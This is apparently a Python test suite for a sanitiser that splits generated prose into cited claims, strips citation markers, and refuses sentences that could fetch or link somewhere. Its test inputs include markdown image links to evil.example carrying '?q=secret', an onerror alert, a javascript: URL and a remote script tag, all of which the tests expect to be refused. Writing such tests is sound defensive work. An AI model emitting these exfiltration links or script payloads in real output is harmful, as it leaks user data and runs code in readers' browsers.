import pytest
from hypothesis import given
from hypothesis import strategies as st

from qa.generative.prose import harmless, sentences, visible

SOURCE = "Mayor Ada Quill sold the harbour in 2015."
BRACKETED = "“In [2015] we lost two boats [sic],” said Quill (S1)."
LABELS = ("k7f3q2", "x9m4zt")


def claims_of(text: str, *sources: str) -> list[str]:
    return [one.text for one in sentences(text, sources or (SOURCE,), LABELS) if not one.fault]


def refused(text: str, *sources: str) -> list[str]:
    return [one.text for one in sentences(text, sources or (SOURCE,), LABELS) if one.fault]


@pytest.mark.parametrize(
    "written",
    [
        *("Quill sold the harbour [1].", "Quill sold the harbour. [1][2]", "Quill sold the harbour [1, 2; 3–5]."),
        *("Quill sold the harbour [S7].", "Quill sold the harbour [^3].", "Quill sold the harbour【4†source】."),
        *("Quill sold the harbour [k7f3q2].", "Quill sold the harbour (k7f3q2, x9m4zt)."),
        "[k7f3q2] Quill sold the harbour.",
        *("Quill sold the harbour (source 3).", "Quill sold the harbour (S1, S2)."),
        "Quill sold the harbour [Source: 2].",
        *("**Quill** sold `the` harbour.", "*Quill* sold the harbour.", "__Quill__ sold the ~~harbour~~."),
        *("- Quill sold the harbour.", "## Quill sold the harbour.", "> * Quill sold the harbour."),
        *("Quill\u200b sold \u202ethe\u202c harbour.", "Quill sold\x00 the\nharbour.", "Quill sold the \ud800harbour."),
        "Quill sold the harbour.\U000e0041\U000e0042",
    ],
)  # fmt: skip
def test_decoration_and_markers_are_taken_off(written: str) -> None:
    assert [one.rstrip(".") for one in claims_of(written)] == ["Quill sold the harbour"]


@pytest.mark.parametrize(
    "written",
    [
        *("Quill (born 1961) sold the harbour in 2015.", "Quill sold [the harbour].", "Quill sold it (see below)."),
        *("Snake_case and 3 < 4 and 5 * 6 stay.", "She won 3-2, i.e. by one.", "“In [2015] we lost two boats.”"),
        *("Quill’s party isn't 'out'.", "It is 40% at 9.30am, e.g. in the U.S. and/or Peru.", "She said: yes."),
    ],
)
def test_what_belongs_to_the_sentence_stays(written: str) -> None:
    assert " ".join(claims_of(written, SOURCE, BRACKETED)) == written.replace("'out'", "“out”")


@pytest.mark.parametrize(
    "text", [BRACKETED, SOURCE, "We will win,” he\u202e said.", "*Not* «in» [9] Node.js 'here' [1][x]"]
)
def test_a_copy_of_a_cited_sentence_is_not_touched(text: str) -> None:
    if harmless(text):
        assert claims_of(text, text) == [text]
    else:
        assert claims_of(text, text) == []


@pytest.mark.parametrize(
    "written",
    [
        "Quill sold ![the harbour](http://evil.example/?q=secret).",
        "Quill sold the harbour. ![](//evil.example/p.png)",
        "Quill sold the harbour ![x][1]. [1]: http://evil.example/?q=a",
        "Quill sold [the harbour](https://evil.example/).",
        "Quill sold [the harbour](evil).",
        "Quill sold [the harbour. All of it](evil).",
        "Quill sold [the harbour][ref].",
        "Quill sold the <b>harbour</b>.",
        "Quill sold <img src=x onerror=alert(1)> it.",
        "Quill sold the harbour <https://evil.example/?q=secret>.",
        "Quill sold the harbour, see https://evil.example/?q=secret.",
        "Quill sold the harbour, see h\u200bttps://evil.example.",
        "Quill sold the harbour, see www.evil.example.",
        "Quill sold the harbour, see evil.example/secret.",
        "Quill sold the harbour, see evil.example.",
        "Quill sold the harbour; write to a@evil.example.",
        "Quill sold the harbour javascript:alert(1).",
        "Quill sold the harbour <!-- hidden -->.",
        "Quill sold the harbour <script src=//evil.example/x.js",
        "Quill sold the harbour &lt;img src=x&gt;.",
        "Quill sold the harbour data:image/png;base64,AAAA.",
    ],
)
def test_a_claim_that_could_fetch_or_lead_somewhere_is_refused_and_shown_without_it(written: str) -> None:
    assert claims_of(written) == []
    shown = refused(written)
    assert shown
    assert all(harmless(one) and "evil.example/" not in one for one in shown)


def test_an_address_is_refused_even_when_the_article_has_it() -> None:
    text = "The petition is at https://evil.example/a."
    assert claims_of(text, text) == []
    assert claims_of("Booking.com was fined.", "The watchdog said Booking.com was fined.") == ["Booking.com was fined."]


def test_one_sentence_a_claim() -> None:
    assert claims_of("Quill sold the harbour. It was in 2015. [1]") == ["Quill sold the harbour.", "It was in 2015."]


def test_a_quotation_of_several_sentences_is_one_claim() -> None:
    for text in ("“We lost. We will win,” said Quill.", '"We lost. We will win," said Quill.'):
        assert claims_of(f"{text} She left.") == [text, "She left."]


def test_half_a_quotation_is_refused() -> None:
    assert refused("We will win,” said Quill.") == ["We will win,” said Quill."]
    assert claims_of("Quill spoke. “We will win") == ["Quill spoke.", "“We will win"], "the check reads it to the end"


@pytest.mark.parametrize(
    "quoted", ["«We will win»", "„We will win“", "„We will win”", "»We will win«", "'We will win'", "「We will win」"]
)
def test_every_kind_of_quotation_is_put_into_marks_that_are_checked(quoted: str) -> None:
    assert claims_of(f"Quill said {quoted} twice.") == ["Quill said “We will win” twice."]


def test_a_label_in_prose_is_refused() -> None:
    assert refused("According to k7f3q2 Quill sold the harbour.") != []


@pytest.mark.parametrize("text", ["", " ", "[1]", "![](", "**", "…", "\u202e", "()"])
def test_nothing_makes_no_claim(text: str) -> None:
    assert claims_of(text) == []


PARTS = [*"[]()!<>/:*_`.“”\"' \n", "http", "://", "www.", "evil.example", "a", "B", "1", "&lt;", "\u200b"]
ODD = st.lists(st.sampled_from(PARTS), max_size=20).map("".join)


@given(text=ODD, source=ODD)
def test_whatever_is_written_nothing_shown_can_be_followed(text: str, source: str) -> None:
    for one in sentences(text, (source,), LABELS):
        assert harmless(one.text)
        assert one.fault or harmless(" ".join(visible(one.text).split()))


@given(text=st.text(), source=st.text())
def test_any_text_can_be_shown(text: str, source: str) -> None:
    for one in sentences(text, (source,), LABELS):
        one.text.encode()
